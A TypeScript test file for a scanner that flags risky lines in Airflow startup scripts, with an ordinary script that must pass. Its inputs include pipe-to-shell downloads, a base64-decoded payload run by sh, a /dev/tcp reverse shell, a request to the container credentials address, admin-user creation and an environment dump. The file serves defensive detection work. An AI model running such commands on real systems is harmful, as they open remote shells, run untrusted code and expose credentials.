import { startupScriptFindings } from "../../../../../functions/dag-publisher/check/files/startup-script";

function messages(text: string): string[] {
  return startupScriptFindings(Buffer.from(text)).map(({ rule, message }) => `${rule} ${message}`);
}

describe("FILE005", () => {
  test.each([
    ["users of Airflow", "airflow users create --role Admin", /users, roles/],
    ["users of Airflow in quotes", "air''flow \"users\" create", /users, roles/],
    ["roles on a line that goes on", "airflow \\\n  roles create x", /users, roles/],
    ["Airflow as a module", "python3 -m airflow users create", /users, roles/],
    ["a download that is run", "curl -s https://example.com/x | sudo bash", /downloads/],
    ["a download that is run on the next line", "wget -qO- https://example.com/x |\n sh", /downloads/],
    ["a download that Python runs", "curl -s https://example.com/x | python3", /downloads/],
    ["a download by substitution", 'bash -c "$(curl -s https://example.com/x)"', /downloads/],
    ["a download by process substitution", "source <(curl -s https://example.com/x)", /downloads/],
    ["a hidden text", "echo aGk= | base64 -d | sh", /hidden/],
    ["a shell to elsewhere", "bash -i >& /dev/tcp/10.0.0.1/99 0>&1", /connection to elsewhere/],
    ["the address of credentials", "curl http://169.254.170.2/x", /credentials/],
    ["the environment in the log", "printenv | sort", /environment/],
    ["a trusted host", "pip3 install --trusted-host example.com x==1", /without a certificate/],
  ])("finds %s", (_property, line, message) => {
    expect(messages(`#!/bin/sh\n${line}\n`)).toEqual([expect.stringMatching(message)]);
  });

  test("finds Windows line ends, once", () => {
    expect(messages("#!/bin/sh\r\ntrue\r\n")).toEqual([expect.stringContaining("Windows line ends")]);
  });

  test.each(["", "true\n", "\ufeff#!/bin/sh\n", "#!/usr/bin/python3\n"])(
    "finds a missing first line: %j",
    (text) => {
      expect(messages(text)).toEqual([expect.stringContaining("the first line")]);
    },
  );

  test("finds a secret", () => {
    expect(messages(`#!/bin/sh\nexport API_TOKEN=ghp_${"a1".repeat(18)}\n`)).toEqual([
      expect.stringMatching(/^FILE006 .*GitHub token/),
    ]);
  });

  test("finds bytes that are no text", () => {
    expect(startupScriptFindings(Buffer.from([0x23, 0x21, 0xff]))).toMatchObject([{ rule: "FILE005" }]);
  });

  test("leaves alone an ordinary script", () => {
    expect(
      messages(
        [
          "#!/usr/bin/env bash",
          "set -e",
          "# airflow users are of the access model",
          'if [ "$MWAA_AIRFLOW_COMPONENT" = "worker" ]; then',
          "  sudo yum install -y libaio",
          "fi",
          "export DEPLOY_ENV=production",
          "curl -sSo /tmp/driver.zip https://example.com/driver.zip",
        ].join("\n"),
      ),
    ).toEqual([]);
  });
});
